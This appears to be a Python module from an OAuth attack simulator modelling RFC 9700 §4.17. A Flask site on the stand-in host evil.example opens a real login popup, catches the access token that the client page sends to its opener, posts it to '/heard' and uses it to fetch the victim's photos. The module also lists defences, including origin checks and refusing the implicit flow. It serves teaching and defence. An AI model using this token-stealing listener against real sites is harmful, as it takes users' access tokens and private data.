"""A message to whoever opened the window: the client's page hands its token to the attacker's (RFC 9700 §4.17)."""

from __future__ import annotations

from collections.abc import Mapping
from functools import cache

from flask import Flask, Response, request
from markupsafe import Markup

from app.actors.client import page
from app.actors.owner import Owner
from app.actors.pages import scripted_page
from app.actors.places import ASKED_SCOPE, AUTHORIZATION_ENDPOINT, CLIENT_ORIGIN
from app.actors.redirects import with_query
from app.attacks import lure, parts
from app.attacks.attack import Attack, Defence
from app.attacks.csrf import EVIL
from app.attacks.parts import ATTACKER, STEAL
from app.flows.flow import Hosts
from app.flows.parts import log_in_and_consent
from app.wire import Browser, Step, World, here
from app.wire.popup import open_popup

SWITCH = "client.message_origin"
HEARD = "/heard"
# All of it is as the printer itself would ask.
ASKED = {
    "response_type": "token",
    "client_id": "printer-page",
    "redirect_uri": f"{CLIENT_ORIGIN}/cb",
    "scope": ASKED_SCOPE,
}
REQUEST = with_query(AUTHORIZATION_ENDPOINT, ASKED)
SHOW = Markup('<button>Show me</button><form method="post" action="/heard"></form>')
LISTEN = """
document.querySelector("button").onclick = () => open("%s");
onmessage = ({data}) => {
  const form = document.forms[0];
  for (const [name, value] of new URLSearchParams(data))
    form.append(Object.assign(document.createElement("input"), {type: "hidden", name, value}));
  form.submit();
};
"""


@cache
def build(asked: str) -> Flask:
    """The attacker's site: a page with a button, and where its script posts what it hears."""
    app = Flask("evil-opener", static_folder=None)
    app.add_url_rule("/cats", "cats", lambda: scripted_page("Cats", SHOW, "listen", LISTEN % asked), methods=["GET"])
    app.add_url_rule(HEARD, "heard", use, methods=["POST"])
    return app


def use() -> Response:
    """Fetch the photos with the token that came, and show what the link promised."""
    parts.fetch_photos(here().actor(ATTACKER), request.form.get("access_token", ""))
    return lure.cats()


def hosts(_: Mapping[str, str]) -> Hosts:
    """The attacker's site."""
    return {EVIL: (ATTACKER, build(REQUEST))}


def script(world: World) -> None:
    """The attacker's page opens the window with the request of the printer."""
    through_window(world, EVIL, REQUEST)


def through_window(world: World, site: str, asked: str) -> None:
    """Ana clicks on a button, and does in the window that opens what the pages of the authorization server ask."""
    owner, browser = Owner(world), Browser(world)
    lure.follow_link(owner, browser, site)
    popup = open_popup(browser, asked, owner.clicks("click", "Show me"))
    log_in_and_consent(owner, popup)
    heard, form = page.hand_over(popup), browser.page.form(HEARD)
    if heard and form:
        browser.submit(form, heard, popup.page.moment.cause)


ATTACK = Attack(
    id="message-to-opener",
    title="Message to whoever opened the window",
    spec=("RFC 9700 §4.17",),
    flows=("implicit",),
    aim="The printer's page gives Ana's access token to the page that opened its window, which is the attacker's.",
    goal=parts.photos_stolen,
    needs={"client.type": "public", "client.auth": "none"},
    weak={SWITCH: "any", "as.implicit": "allowed"},
    stops=(
        Defence(
            switch=SWITCH,
            value="exact",
            who="browser",
            sentence="The message is for pages of the printer, and the browser gives it to no page of another site.",
        ),
        Defence(
            switch=SWITCH,
            value="none",
            who="client",
            sentence="The printer's page keeps the answer to itself.",
        ),
        parts.implicit_refused("No access token comes to that page, so it has none to hand on."),
    ),
    promised={"rfc9700": "RFC 9700 §2.1.2", "oauth-2.1": "OAuth 2.1 §10.1"},
    lanes=(parts.thief("evil.example", "attacker's site"),),
    steps=(
        *lure.STEPS,
        Step("click", "owner", "browser", "act", "", lure.LURE, "Ana clicks on a button"),
        Step("heard", "browser", ATTACKER, "POST", HEARD, STEAL, "Post what the page heard"),
        parts.REDEEMING[1],
    ),
    phases=(lure.LURING, parts.STEALING),
    hosts=hosts,
    script=script,
    victim="A window opens, with the real login page in it, and a question about a client that she knows.",
    attacker="He changes nothing in the request: the answer goes where it should, and that page tells it on to him.",
    remains="A page that listens has to look at the origin of what it hears as well: any window can send it something.",
)
